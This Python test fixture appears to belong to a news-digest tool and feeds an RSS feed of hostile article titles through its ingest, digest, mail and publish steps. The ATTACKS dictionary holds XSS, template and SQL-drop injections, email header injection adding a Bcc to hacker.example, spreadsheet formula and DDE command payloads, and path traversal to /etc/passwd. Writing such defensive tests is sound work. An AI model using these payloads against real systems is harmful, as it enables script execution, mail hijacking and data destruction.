"""A home into which every hostile title came: what an outlet writes tries to be markup, a header, a formula, a command.

The titles are in `ATTACKS`; `made` brings them through feed, labels, digest, mail and the published copy.
"""

import email
import email.policy
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path
from xml.sax.saxutils import escape

from typer.testing import CliRunner

from flows.cli import app
from flows.demo.press import SOURCES_DIR

LABOUR = "Công nhân công ty may đình công đòi tăng lương, công đoàn cơ sở vào cuộc"
ATTACKS = {
    "markup": f"{LABOUR} <script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": f'{LABOUR} " onmouseover="alert(3)" x="',
    "closing": f"{LABOUR} </td></tr></table></style><style>*{{display:none}}</style>",
    "template": f"{LABOUR} {{{{ 1337*1337 }}}} {{% raw %}} ${{1337*1337}} #{{1337*1337}} <%= 1337*1337 %>",
    "header": f"{LABOUR}\r\nBcc: moi-nguoi@hacker.example\r\n\r\nthân thư giả",
    "encoded-word": f"{LABOUR} =?utf-8?q?=0D=0ABcc=3A_x=40hacker=2Eexample?=",
    "formula": f'=HYPERLINK("http://hacker.example","{LABOUR}")',
    "dde": f"+cmd|' /C calc'!A0 {LABOUR}",
    "at": f"@SUM(1+1) {LABOUR}",
    "semicolon": f'{LABOUR};=HYPERLINK("http://hacker.example")',
    "full-width": f"\uff1d1+1 {LABOUR}",
    "tab": f"\t=1+1 {LABOUR}",
    "terminal": f"{LABOUR} \x1b[2J\x1b]0;bị chiếm\x07\x9b31m",
    "bidi": f"{LABOUR} \u202egnp.exe\u2066\u2069",
    "zero-width": f"{LABOUR[:9]}\u200b\u200d\ufeff{LABOUR[9:]}",
    "null": f"{LABOUR} \x00\x08\x7f\ufffe",
    "huge": f"{LABOUR} " + "công nhân " * 200_000,
    "one-word": LABOUR + " " + "đ" * 300_000,
    "sql": f"{LABOUR}'); drop table core.items; --",
    "path": f"../../../../etc/passwd {LABOUR}",
    "markdown": f"{LABOUR} [bấm](javascript:alert(1)) ![](http://hacker.example/x.png)",
    "rich": f"{LABOUR} [bold red]giả[/bold red] [link=http://hacker.example]x[/link]",
}
DAY = "2026-08-05"


@dataclass(frozen=True)
class Attacked:
    """A home into which all the titles came, and what its mail is."""

    home: Path
    mail: EmailMessage
    html: str
    text: str
    env: dict[str, str]


def feed() -> bytes:
    """A feed whose entries are the attacks, as a CMS would escape them."""
    items = "".join(
        f"<item><title><![CDATA[{title.replace(']]>', '')}]]></title>"
        f"<link>https://nguoitho.example/{name}-1{place:03}.html</link>"
        f"<description>{escape(title[:3000])}</description>"
        "<pubDate>Wed, 05 Aug 2026 09:30:00 +0700</pubDate></item>"
        for place, (name, title) in enumerate(ATTACKS.items())
    )
    return f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>{items}</channel></rss>'.encode()


def made(folder: Path) -> Attacked:
    """A home of one hostile day, from the feed to the published copy."""
    feeds = folder / DAY
    feeds.mkdir()
    (feeds / "nguoitho.xml").write_bytes(feed())
    env = {"DIEMTIN_HOME": str(folder / "home"), "DIEMTIN_SOURCES_DIR": str(SOURCES_DIR)}
    run = CliRunner()
    for words in (["ingest", str(feeds)], ["digest", "--day", DAY], ["send"], ["publish"]):
        done = run.invoke(app, words, env=env)
        assert done.exit_code == 0, done.output
    (path,) = (folder / "home" / "outbox").glob("*.eml")
    mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    assert isinstance(mail, EmailMessage)
    html, text = (mail.get_body((kind,)) for kind in ("html", "plain"))
    assert html is not None
    assert text is not None
    return Attacked(folder / "home", mail, html.get_content(), text.get_content(), env)
